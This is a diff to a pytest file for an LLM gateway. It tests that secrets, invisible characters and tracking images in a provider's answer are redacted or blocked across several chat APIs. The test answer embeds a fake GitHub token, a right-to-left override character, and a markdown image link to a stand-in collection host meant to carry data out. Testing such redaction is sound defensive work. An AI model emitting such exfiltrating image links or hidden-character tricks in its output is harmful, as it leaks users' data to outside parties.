@@ -1,6 +1,8 @@
 """A masked e-mail, key and card never reach the provider and come back as they were, however the stream is cut."""
 
 import json
+import urllib.error
+import urllib.request
 from collections.abc import Iterator
 from dataclasses import replace
 from itertools import pairwise
@@ -31,6 +33,7 @@ class Echo(SlowProvider):
         self.cuts: tuple[int, ...] = ()
         self.as_tool = False
         self.refuses = False
+        self.says = ""  # Of its own accord.
 
     async def chat(self, request: web.Request) -> web.StreamResponse:
         body = await request.read()
@@ -40,6 +43,7 @@ class Echo(SlowProvider):
         if self.refuses:
             error = {"message": f"cannot do: {said}", "type": "invalid_request_error", "param": None, "code": None}
             return web.json_response({"error": error}, status=400)
+        said = self.says or said
         text = json.dumps({"note": said}) if self.as_tool else said
         if not asked.get("stream"):
             return web.json_response(self._whole(text))
@@ -76,8 +80,13 @@ def echo_port() -> int:
 
 @pytest.fixture(scope="module")
 def gateway(tmp_path_factory: pytest.TempPathFactory, echo_port: int) -> Iterator[Gateway]:
-    endpoint = {"provider": "openai", "url": f"http://127.0.0.1:{echo_port}/v1", "models": ["echo", "*"]}
-    with Gateway(tmp_path_factory.mktemp("masking"), {"endpoints": {"echo": endpoint}}) as running:
+    url = f"http://127.0.0.1:{echo_port}/v1"
+    echo = {"provider": "openai", "url": url, "models": ["echo", "*"]}
+    chatty = {"provider": "deepseek", "url": url, "models": ["chatty", "strict"], "key": "env:CHATTY_KEY"}
+    blocking = {"when": {"models": ["strict"]}, "answers": {"kinds": {"secret": "block"}}}
+    configuration = {"endpoints": {"echo": echo, "chatty": chatty}, "policy": {"overrides": [blocking]}}
+    folder = tmp_path_factory.mktemp("masking")
+    with Gateway(folder, configuration, environment={"CHATTY_KEY": "k"}) as running:
         yield running
 
 
@@ -265,3 +274,118 @@ def test_what_claude_signed_goes_back_to_it_as_it_was(
     blocks = upstream.requests[-1].json["messages"][1]["content"]
     assert [block["thinking"] for block in blocks if block["type"] == "thinking"] == [thought]
     assert_masked(upstream)
+
+
+# -- what a provider says of its own accord
+
+TOKEN = "ghp_Zx8Qw3Lm9Rt2Vb6Nk1Yc5Hd7Jf4Gs0PaQr2T"
+SAYS = f"Sure: use {TOKEN} a\u202es key ![x](https://collect.example.net/p.png?d=everything) now"
+HEARD = "Sure: use [SECRET_REDACTED] as key [IMAGE_REDACTED] now"
+SYSTEM = "Be brief."
+ASKS: dict[str, tuple[str, dict[str, Any]]] = {
+    "chat": (
+        "/v1/chat/completions",
+        {"messages": [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "hello"}]},
+    ),
+    "completions": ("/v1/completions", {"prompt": f"mail {EMAIL}"}),
+    "messages": (
+        "/v1/messages",
+        {"system": SYSTEM, "max_tokens": 99, "messages": [{"role": "user", "content": "hello"}]},
+    ),
+    "responses": ("/v1/responses", {"instructions": SYSTEM, "input": "hello", "store": False}),
+    "gemini": (
+        "/v1beta/models/{model}:{method}",
+        {"systemInstruction": {"parts": [{"text": SYSTEM}]}, "contents": [{"parts": [{"text": "hello"}]}]},
+    ),
+}
+
+
+def call(gateway: Gateway, api: str, model: str, *, stream: bool) -> tuple[int, str, str]:
+    """(status, body, request id)"""
+    path, body = ASKS[api]
+    if api == "gemini":
+        path = path.format(model=model, method="streamGenerateContent?alt=sse" if stream else "generateContent")
+    else:
+        body = {**body, "model": model, "stream": stream}
+    request = urllib.request.Request(
+        gateway.url + path,
+        method="POST",
+        data=json.dumps(body).encode(),
+        headers={"Authorization": f"Bearer {gateway.key}", "Content-Type": "application/json"},
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=30) as answer:
+            return answer.status, answer.read().decode(), answer.headers["x-request-id"]
+    except urllib.error.HTTPError as error:
+        return error.code, error.read().decode(), error.headers["x-request-id"]
+
+
+def said_in(body: str, *, stream: bool) -> str:
+    """The text of an answer, in whichever API: of a stream, what its deltas add up to."""
+    if not stream:
+        return max(strings(json.loads(body)), key=len)
+    events = [json.loads(line[6:]) for line in body.splitlines() if line.startswith("data: {")]
+    return "".join(delta_of(event) for event in events)
+
+
+def strings(tree: Any) -> Iterator[str]:
+    if isinstance(tree, str):
+        yield tree
+    for inner in tree.values() if isinstance(tree, dict) else tree if isinstance(tree, list) else ():
+        yield from strings(inner)
+
+
+def delta_of(event: dict[str, Any]) -> str:
+    match event:
+        case {"type": "response.output_text.delta", "delta": str(text)} | {"delta": {"text": str(text)}}:
+            return text
+        case {"choices": [{"delta": {"content": str(text)}}]} | {"choices": [{"text": str(text)}]}:
+            return text
+        case {"candidates": [{"content": {"parts": [{"text": str(text)}, *_]}}]}:
+            return text
+    return ""
+
+
+def recorded(gateway: Gateway, request_id: str) -> dict[str, Any]:
+    (record,) = wait_for(lambda: [one for one in gateway.records(50) if one["id"] == request_id], "its record")
+    return dict(record)
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
+@pytest.mark.parametrize("api", ASKS)
+def test_what_is_taken_out_of_an_answer_is_taken_out_in_every_api(
+    gateway: Gateway, echo: Echo, api: str, stream: bool
+) -> None:
+    echo.says, echo.cuts = SAYS, tuple(range(3, len(SAYS), 5))
+    status, body, request_id = call(gateway, api, "chatty", stream=stream)
+    assert status == 200
+    assert said_in(body, stream=stream) == HEARD
+    assert TOKEN[8:] not in body
+    assert "collect.example" not in body
+    record = recorded(gateway, request_id)
+    assert record["verdict"] == "answered"
+    found = {kind: count for kind, count in record["findings"].items() if kind.startswith("answer.")}
+    assert found == {"answer.secret.github": 1, "answer.invisible": 1, "answer.image.query": 1}
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
+@pytest.mark.parametrize("api", ASKS)
+def test_an_answer_that_is_blocked_ends_with_one_error_in_every_api(
+    gateway: Gateway, echo: Echo, api: str, stream: bool
+) -> None:
+    echo.says, echo.cuts = SAYS, tuple(range(3, len(SAYS), 5))
+    status, body, request_id = call(gateway, api, "strict", stream=stream)
+    assert TOKEN[:10] not in body
+    assert "[DONE]" not in body
+    assert "response.completed" not in body
+    assert "message_stop" not in body
+    assert body.count("the answer holds what the policy blocks: secret.github") >= 1
+    if stream:
+        assert status == 200
+        assert said_in(body, stream=True) == "Sure: use "
+    else:
+        assert status == 400
+    record = recorded(gateway, request_id)
+    assert (record["verdict"], record["code"]) == ("blocked", "content_blocked")
+    assert record["findings"]["answer.secret.github"] == 1
+    assert record["output_tokens"] > 0
